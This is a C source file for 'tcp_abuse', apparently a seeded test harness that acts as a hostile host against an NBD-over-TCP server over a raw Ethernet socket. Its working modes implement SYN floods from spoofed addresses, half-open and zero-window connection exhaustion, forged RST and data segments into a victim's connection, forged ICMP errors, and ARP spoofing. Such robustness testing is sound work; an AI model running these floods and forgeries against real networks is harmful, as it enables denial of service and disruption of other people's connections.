/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * A hostile host on an Ethernet interface, below any TCP that would behave: floods, half-open connections, bombs behind
 * a hole, windows that never open, forgeries of somebody else's segments.
 *
 * Its addresses are a range of its own; it answers ARP for them where a mode says so.  Everything it does follows from
 * --seed.  What it sent and saw is written to standard output as JSON at the end.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "raw_frame.h"

#define FRAME_BYTES_MAX 1514u
#define CONNECTION_COUNT_MAX 32768u
#define PORTS_EACH 64u /* connections of one of our addresses */
#define PORT_FIRST 20000u
#define TCP_PORT 10809u
#define WINDOW_GREETING 152u /* greeting and the answer to EXPORT_NAME with its zeroes, and no byte more */
#define ANSWER_BYTES (18u + 134u)
#define READ_COUNT 8u
#define RETRY_NS 500000000u
#define FIN 1u
#define SYN 2u
#define RST 4u
#define PSH 8u
#define ACK 16u

static const char usage[] =
	"usage: tcp_abuse [OPTION...] INTERFACE SERVER-ADDRESS MODE\n"
	"\n"
	"  --from ADDRESS    first of its own addresses (default 10.77.64.1)\n"
	"  --victim A:PORT   whose segments are forged (modes spray, icmp)\n"
	"  --count N         connections (modes half, bomb, zero) or addresses\n"
	"  --to MAC          send everything there instead, after the server has answered\n"
	"  --rate N          frames a second (default 20000)\n"
	"  --seconds N       how long (default: until SIGTERM)\n"
	"  --seed N\n"
	"\n"
	"modes\n"
	"  syn    SYNs from --count addresses that nobody has\n"
	"  half   --count handshakes that never end, from addresses that answer ARP\n"
	"  bomb   --count connections that send every second byte behind a hole, up to the window, again and again\n"
	"  zero   --count NBD clients that ask for 32 MiB reads and close their window for ever\n"
	"  spray  SYN, RST, ACK, FIN and data of the victim's connection, numbers by the dice\n"
	"  icmp   fragmentation needed, unreachable and quench for the victim's connection, MTU by the dice\n"
	"  arp    requests, replies and claims of every address but the victim's\n"
	"  noise  frames that are nearly right\n"
	"\n"
	"Prints \"ready\" once the server has answered its ARP request, \"all answered\" when every connection has had "
	"its\n"
	"SYN-ACK, and at the end what it did as JSON.\n";

#define COUNTERS(X)                                                                                                    \
	X(sent)                                                                                                        \
	X(arp_answers)                                                                                                 \
	X(syn_acks)                                                                                                    \
	X(answered)                                                                                                    \
	X(opened)                                                                                                      \
	X(resets)                                                                                                      \
	X(data_bytes)                                                                                                  \
	X(zero_probes)

#define FIELD(name) uint64_t name;
static struct {
	COUNTERS(FIELD)
} counts;

struct connection {
	uint32_t snd_nxt, rcv_nxt;
	uint32_t hole; /* bomb: how far behind it the next byte is */
	uint16_t window;
	uint64_t tried_ns;
	bool open, asked, answered;
};

static struct {
	int fd, ifindex;
	uint8_t mac[6], server_mac[6];
	uint32_t from, server, victim; /* host order */
	uint16_t victim_port;
	uint32_t count, rate;
	uint64_t dice;
	const struct ether_addr *to; /* instead of the server */
	bool answers_arp, has_server;
} host = {.from = 0x0a4d4001, .count = 1000, .rate = 20000, .dice = 1};

static struct connection connections[CONNECTION_COUNT_MAX];
static volatile sig_atomic_t stopped;

static void on_signal(int signo)
{
	(void)signo;
	stopped = 1;
}

static uint32_t roll(void)
{
	return splitmix(&host.dice);
}

/* ------------------------------------------------------------------ frames */
static void send_frame(const uint8_t *frame, uint32_t len)
{
	uint8_t padded[60] = {0};
	if (len < sizeof padded) {
		memcpy(padded, frame, len);
		frame = padded;
		len = sizeof padded;
	}
	if (send(host.fd, frame, len, MSG_DONTWAIT) == (ssize_t)len)
		counts.sent++;
}

/* Ethernet and IP headers in place for what is behind them. */
static void send_ip(uint8_t *frame, uint32_t source, uint8_t protocol, uint32_t payload_bytes)
{
	memcpy(frame, host.server_mac, 6);
	memcpy(frame + 6, host.mac, 6);
	put16(frame + 12, 0x0800);
	uint8_t *ip = frame + 14;
	memset(ip, 0, 20);
	ip[0] = 0x45;
	put16(ip + 2, 20 + payload_bytes);
	put16(ip + 4, roll() & 0xffff);
	put16(ip + 6, 0x4000);
	ip[8] = 64;
	ip[9] = protocol;
	put32(ip + 12, source);
	put32(ip + 16, host.server);
	put16(ip + 10, checksum(sum_of(0, ip, 20)));
	send_frame(frame, 34 + payload_bytes);
}

struct segment {
	uint32_t source; /* address */
	uint16_t port, window;
	uint32_t seq, ack;
	uint8_t flags;
	const uint8_t *payload;
	uint32_t payload_bytes;
};

static void send_segment(const struct segment *s)
{
	static const uint8_t syn_options[4] = {2, 4, 1460 >> 8, 1460 & 0xff};
	uint8_t frame[FRAME_BYTES_MAX], *tcp = frame + 34;
	const uint32_t options = s->flags & SYN ? sizeof syn_options : 0, len = 20 + options + s->payload_bytes;
	put16(tcp, s->port);
	put16(tcp + 2, TCP_PORT);
	put32(tcp + 4, s->seq);
	put32(tcp + 8, s->ack);
	tcp[12] = (uint8_t)((20 + options) << 2);
	tcp[13] = s->flags;
	put16(tcp + 14, s->window);
	put32(tcp + 16, 0);
	memcpy(tcp + 20, syn_options, options);
	if (s->payload_bytes)
		memcpy(tcp + 20 + options, s->payload, s->payload_bytes);
	uint32_t sum = (s->source >> 16) + (s->source & 0xffff) + (host.server >> 16) + (host.server & 0xffff);
	put16(tcp + 16, checksum(sum_of(sum + IPPROTO_TCP + len, tcp, len)));
	send_ip(frame, s->source, IPPROTO_TCP, len);
}

static void send_arp(uint32_t operation, const uint8_t *to, uint32_t sender, const uint8_t *sender_mac, uint32_t target)
{
	uint8_t frame[42] = {0};
	memcpy(frame, to, 6);
	memcpy(frame + 6, sender_mac, 6);
	put16(frame + 12, 0x0806);
	put32(frame + 14, 0x00010800);
	put32(frame + 18, 0x06040000 | operation);
	memcpy(frame + 22, sender_mac, 6);
	put32(frame + 28, sender);
	if (operation == 2)
		memcpy(frame + 32, to, 6);
	put32(frame + 38, target);
	send_frame(frame, sizeof frame);
}

/* ------------------------------------------------------------- connections */
static uint32_t address_of(uint32_t index)
{
	return host.from + index / PORTS_EACH;
}

static uint16_t port_of(uint32_t index)
{
	return (uint16_t)(PORT_FIRST + index % PORTS_EACH);
}

static void send_of(uint32_t index, uint8_t flags, uint32_t ahead, const uint8_t *payload, uint32_t len)
{
	const struct connection *c = &connections[index];
	const struct segment segment = {address_of(index), port_of(index), c->window, c->snd_nxt + ahead,
					c->rcv_nxt,        flags,          payload,   len};
	send_segment(&segment);
}

/* A SYN, or the same again when no answer came for a while. */
static void open_one(uint32_t index)
{
	struct connection *c = &connections[index];
	const uint64_t now = now_ns();
	if (c->tried_ns && now - c->tried_ns < RETRY_NS)
		return;
	if (!c->tried_ns)
		*c = (struct connection){.snd_nxt = roll(), .window = 65535};
	c->tried_ns = now;
	send_of(index, SYN, 0, NULL, 0);
}

/* Client flags and EXPORT_NAME "disk"; then reads of 32 MiB each. */
static void ask_to_read(uint32_t index)
{
	static const uint8_t hello[] = "\0\0\0\1IHAVEOPT\0\0\0\1\0\0\0\4disk";
	struct connection *c = &connections[index];
	uint8_t requests[READ_COUNT * 28];
	if (c->asked) {
		send_of(index, ACK, 0, NULL, 0);
		return;
	}
	c->asked = true;
	send_of(index, ACK | PSH, 0, hello, sizeof hello - 1);
	c->snd_nxt += (uint32_t)sizeof hello - 1;
	for (uint32_t i = 0; i < READ_COUNT; i++) {
		uint8_t *at = requests + 28 * i;
		memset(at, 0, 28);
		put32(at, 0x25609513);
		put32(at + 12, i);
		put32(at + 24, 32u << 20);
	}
	send_of(index, ACK | PSH, 0, requests, sizeof requests);
	c->snd_nxt += (uint32_t)sizeof requests;
}

static bool mode_is(const char *mode, const char *name)
{
	return strcmp(mode, name) == 0;
}

static void on_syn_ack(uint32_t index, const char *mode, uint32_t seq)
{
	struct connection *c = &connections[index];
	counts.syn_acks++;
	counts.answered += !c->answered;
	c->answered = true;
	if (mode_is(mode, "half") || c->open || !c->tried_ns)
		return;
	counts.opened++;
	c->open = true;
	c->snd_nxt++;
	c->rcv_nxt = seq + 1;
	c->window = mode_is(mode, "zero") ? WINDOW_GREETING : 65535;
	send_of(index, ACK, 0, NULL, 0);
	if (mode_is(mode, "zero"))
		ask_to_read(index);
}

/* Data are acknowledged as far as the greeting goes; then there is no room for one byte more. */
static void on_data(uint32_t index, const char *mode, uint32_t seq, uint32_t len)
{
	struct connection *c = &connections[index];
	counts.data_bytes += len;
	if (seq == c->rcv_nxt && len <= c->window) {
		c->rcv_nxt += len;
		if (mode_is(mode, "zero"))
			c->window = (uint16_t)(c->window - len);
	} else {
		counts.zero_probes++;
	}
	send_of(index, ACK, 0, NULL, 0);
}

static void on_tcp(const uint8_t *ip, uint32_t len, const char *mode)
{
	const uint32_t target = get32(ip + 16), total = get16(ip + 2);
	const uint8_t *tcp = ip + 20;
	if (ip[0] != 0x45 || ip[9] != IPPROTO_TCP || total > len || total < 40 || target < host.from)
		return;
	const uint32_t port = get16(tcp + 2), flags = tcp[13], header = (uint32_t)(tcp[12] >> 4) * 4;
	const uint32_t index = (target - host.from) * PORTS_EACH + port - PORT_FIRST;
	if (port < PORT_FIRST || port >= PORT_FIRST + PORTS_EACH || index >= host.count || header + 20 > total)
		return;
	struct connection *c = &connections[index];
	if (flags & RST) {
		counts.resets++;
		c->open = false;
		c->tried_ns = 0;
	} else if ((flags & (SYN | ACK)) == (SYN | ACK)) {
		on_syn_ack(index, mode, get32(tcp + 4));
	} else if (c->open && total - 20 > header) {
		on_data(index, mode, get32(tcp + 4), total - 20 - header);
	}
}

static void on_frame(const uint8_t *frame, uint32_t len, const char *mode)
{
	if (len >= 42 && get16(frame + 12) == 0x0806) {
		const uint32_t sender = get32(frame + 28), target = get32(frame + 38);
		if (get16(frame + 20) == 2 && sender == host.server) {
			memcpy(host.server_mac, frame + 22, 6);
			host.has_server = true;
		} else if (get16(frame + 20) == 1 && target >= host.from && target - host.from < CONNECTION_COUNT_MAX &&
			   (host.answers_arp || target == host.from)) {
			counts.arp_answers++;
			send_arp(2, frame + 6, target, host.mac, sender);
		}
		return;
	}
	if (host.answers_arp && len >= 54 && get16(frame + 12) == 0x0800)
		on_tcp(frame + 14, len - 14, mode);
}

static void receive(const char *mode)
{
	uint8_t frame[2048];
	struct sockaddr_ll from;
	for (unsigned i = 0; i < 256; i++) {
		socklen_t from_len = sizeof from;
		const ssize_t len =
			recvfrom(host.fd, frame, sizeof frame, MSG_DONTWAIT, (struct sockaddr *)&from, &from_len);
		if (len < 14)
			return;
		if (from.sll_pkttype != PACKET_OUTGOING)
			on_frame(frame, (uint32_t)len, mode);
	}
}

/* ------------------------------------------------------------------- modes */
static uint32_t next_index;

static uint32_t turn(void)
{
	return next_index++ % host.count;
}

static void mode_syn(void)
{
	const struct segment syn = {
		host.from + 1 + roll() % host.count, (uint16_t)(1024 + roll() % 60000), 65535, roll(), 0, SYN, NULL, 0};
	send_segment(&syn);
}

static void mode_half(void)
{
	const uint32_t index = turn();
	if (!connections[index].answered)
		open_one(index);
}

static void mode_bomb(void)
{
	const uint32_t index = turn();
	struct connection *c = &connections[index];
	if (!c->open) {
		open_one(index);
		return;
	}
	send_of(index, ACK, 1 + c->hole, (const uint8_t *)"x", 1);
	c->hole = (c->hole + 2) % 65534;
}

static void mode_zero(void)
{
	const uint32_t index = turn();
	if (!connections[index].open)
		open_one(index);
}

static void mode_spray(void)
{
	static const uint8_t flags[] = {SYN, RST, RST | ACK, ACK, FIN | ACK, ACK | PSH, SYN | ACK, 0, 0x3f};
	uint8_t payload[64];
	memset(payload, 0xbd, sizeof payload);
	const struct segment s = {host.victim,      host.victim_port,
				  (uint16_t)roll(), roll(),
				  roll(),           flags[roll() % sizeof flags],
				  payload,          roll() % 3 ? 0 : (uint32_t)sizeof payload};
	send_segment(&s);
}

static void mode_icmp(void)
{
	static const uint8_t kinds[][2] = {{3, 4}, {3, 4}, {3, 4}, {3, 1}, {3, 3}, {4, 0}, {11, 0}, {5, 0}};
	static const uint16_t mtus[] = {0, 68, 296, 576, 1006, 1280, 1499, 65535};
	const uint8_t *kind = kinds[roll() % 8];
	uint8_t frame[FRAME_BYTES_MAX] = {0}, *icmp = frame + 34, *ip = icmp + 8, *tcp = ip + 20;
	icmp[0] = kind[0];
	icmp[1] = kind[1];
	put16(icmp + 6, mtus[roll() % 8]);
	ip[0] = 0x45;
	put16(ip + 2, 1500);
	put16(ip + 6, 0x4000);
	ip[8] = 60;
	ip[9] = IPPROTO_TCP;
	put32(ip + 12, host.server);
	put32(ip + 16, host.victim);
	put16(ip + 10, checksum(sum_of(0, ip, 20)));
	put16(tcp, TCP_PORT);
	put16(tcp + 2, host.victim_port);
	put32(tcp + 4, roll());
	put16(icmp + 2, checksum(sum_of(0, icmp, 36)));
	send_ip(frame, host.from, IPPROTO_ICMP, 36);
}

static void mode_arp(void)
{
	static const uint8_t everybody[6] = {255, 255, 255, 255, 255, 255};
	uint8_t mac[6] = {2, 0xba, (uint8_t)roll(), (uint8_t)roll(), (uint8_t)roll(), 0};
	const uint32_t random = host.from + roll() % 16384;
	switch (roll() % 4) {
	case 0:
		send_arp(1, everybody, random, mac, host.server);
		break;
	case 1:
		send_arp(1, everybody, random, mac, random);
		break;
	case 2:
		send_arp(2, host.server_mac, random, mac, host.server);
		break;
	default:
		send_arp(1 + roll() % 2, host.server_mac, host.server, mac, host.server); /* others would believe it */
		break;
	}
}

static void mode_noise(void)
{
	uint8_t frame[FRAME_BYTES_MAX];
	const uint32_t len = 14 + roll() % 200;
	for (uint32_t i = 0; i < len; i++)
		frame[i] = (uint8_t)roll();
	memcpy(frame, host.server_mac, 6);
	memcpy(frame + 6, host.mac, 6);
	put16(frame + 12, roll() % 8 ? 0x0800 : 0x0806);
	uint8_t *ip = frame + 14;
	if (len >= 54 && roll() % 8) {
		ip[0] = roll() % 8 ? 0x45 : (uint8_t)roll();
		put16(ip + 2, roll() % 4 ? len - 14 : roll());
		put16(ip + 6, roll() % 4 ? 0x4000 : roll());
		ip[8] = 64;
		ip[9] = roll() % 4 ? IPPROTO_TCP : (uint8_t)roll();
		put32(ip + 12, host.from + roll() % 256);
		put32(ip + 16, host.server);
		put16(ip + 10, 0);
		put16(ip + 10, checksum(sum_of(0, ip, 20)));
		put16(ip + 22, TCP_PORT);
		ip[32] = (uint8_t)(roll() << 4);
	}
	send_frame(frame, len);
}

static const struct mode {
	const char *name;
	void (*step)(void);
	bool answers_arp;
} modes[] = {{"syn", mode_syn, false},  {"half", mode_half, true},    {"bomb", mode_bomb, true},
	     {"zero", mode_zero, true}, {"spray", mode_spray, false}, {"icmp", mode_icmp, false},
	     {"arp", mode_arp, false},  {"noise", mode_noise, false}};

/* -------------------------------------------------------------------- main */
static void fail(const char *what)
{
	fprintf(stderr, "tcp_abuse: %s: %s\n", what, errno ? strerror(errno) : "not understood");
	exit(1);
}

static void begin(const char *name)
{
	static const uint8_t everybody[6] = {255, 255, 255, 255, 255, 255};
	const int bytes = 8 << 20;
	host.fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
	const struct sockaddr_ll at = {
		.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = (int)if_nametoindex(name)};
	const struct packet_mreq all = {.mr_ifindex = at.sll_ifindex, .mr_type = PACKET_MR_PROMISC};
	if (host.fd < 0 || bind(host.fd, (const struct sockaddr *)&at, sizeof at) ||
	    setsockopt(host.fd, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &all, sizeof all) ||
	    setsockopt(host.fd, SOL_SOCKET, SO_RCVBUFFORCE, &bytes, sizeof bytes) ||
	    setsockopt(host.fd, SOL_SOCKET, SO_SNDBUFFORCE, &bytes, sizeof bytes))
		fail(name);
	const uint8_t mac[6] = {2, 0xba, 0xd0, 0, 0, 1};
	memcpy(host.mac, mac, sizeof mac);
	for (unsigned i = 0; !host.has_server && i < 100 && !stopped; i++) {
		if (i % 10 == 0)
			send_arp(1, everybody, host.from, host.mac, host.server);
		usleep(10000);
		receive("");
	}
	if (!host.has_server)
		fail("no answer to ARP");
	if (host.to)
		memcpy(host.server_mac, host.to, 6);
	puts("ready");
}

static void run(const struct mode *mode, uint64_t end_ns)
{
	const uint64_t start_ns = now_ns();
	uint64_t done = 0;
	bool told = false;
	while (!stopped && now_ns() < end_ns) {
		const uint64_t due = (uint64_t)((double)(now_ns() - start_ns) * host.rate / 1e9);
		for (unsigned i = 0; i < 512 && done < due; i++, done++)
			mode->step();
		if (mode->answers_arp || mode_is(mode->name, "arp"))
			receive(mode->name);
		if (counts.answered == host.count && !told) {
			told = true;
			puts("all answered");
		}
		if (done >= due)
			usleep(500);
	}
}

static void options_of(int argc, char **argv, double *seconds)
{
	static const struct option options[] = {{"from", required_argument, NULL, 'f'},
						{"to", required_argument, NULL, 't'},
						{"victim", required_argument, NULL, 'v'},
						{"count", required_argument, NULL, 'c'},
						{"rate", required_argument, NULL, 'r'},
						{"seconds", required_argument, NULL, 's'},
						{"seed", required_argument, NULL, 'd'},
						{"help", no_argument, NULL, 'h'},
						{NULL, 0, NULL, 0}};
	for (int option; (option = getopt_long(argc, argv, "", options, NULL)) != -1;) {
		char *colon = option == 'v' ? strchr(optarg, ':') : NULL;
		switch (option) {
		case 'f':
			host.from = ntohl(inet_addr(optarg));
			break;
		case 't':
			host.to = ether_aton(optarg);
			break;
		case 'v':
			if (!colon)
				fail("--victim");
			*colon = '\0';
			host.victim = ntohl(inet_addr(optarg));
			host.victim_port = (uint16_t)strtoul(colon + 1, NULL, 10);
			break;
		case 'c':
			host.count = (uint32_t)strtoul(optarg, NULL, 10);
			break;
		case 'r':
			host.rate = (uint32_t)strtoul(optarg, NULL, 10);
			break;
		case 's':
			*seconds = strtod(optarg, NULL);
			break;
		case 'd':
			host.dice = strtoull(optarg, NULL, 10);
			break;
		default:
			fputs(usage, option == 'h' ? stdout : stderr);
			exit(option == 'h' ? 0 : 2);
		}
	}
}

int main(int argc, char **argv)
{
	double seconds = 1e6;
	const struct mode *mode = NULL;
	options_of(argc, argv, &seconds);
	for (unsigned i = 0; argc - optind == 3 && i < sizeof modes / sizeof modes[0]; i++)
		if (mode_is(modes[i].name, argv[optind + 2]))
			mode = &modes[i];
	if (!mode || !host.count || host.count > CONNECTION_COUNT_MAX) {
		fputs(usage, stderr);
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	signal(SIGTERM, on_signal);
	signal(SIGINT, on_signal);
	host.server = ntohl(inet_addr(argv[optind + 1]));
	host.answers_arp = mode->answers_arp;
	begin(argv[optind]);
	run(mode, now_ns() + (uint64_t)(seconds * 1e9));
#define PRINT(name) printf("\"" #name "\": %llu, ", (unsigned long long)counts.name);
	putchar('{');
	COUNTERS(PRINT)
	printf("\"mode\": \"%s\"}\n", mode->name);
	return 0;
}
